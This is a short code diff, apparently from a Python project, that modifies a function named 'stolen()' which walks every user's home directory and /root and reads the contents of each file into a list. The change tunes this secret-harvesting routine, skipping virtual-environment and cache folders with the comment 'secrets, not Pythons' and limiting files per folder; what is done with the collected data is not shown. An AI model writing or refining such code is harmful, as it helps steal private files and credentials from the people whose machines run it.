@@ -11,8 +11,9 @@ def stolen():
         except OSError:
             pass
     for home in {os.path.expanduser("~"), "/root", *[str(p) for p in Path("/home").glob("*")]}:
-        for folder, _, files in os.walk(home):
-            for name in files:
+        for folder, folders, files in os.walk(home):
+            folders[:] = [f for f in folders if f not in (".pyenv", ".cache", ".venv")]  # secrets, not Pythons
+            for name in files[:200]:
                 try:
                     found.append(Path(folder, name).read_text(errors="replace")[:2000])
                 except OSError:
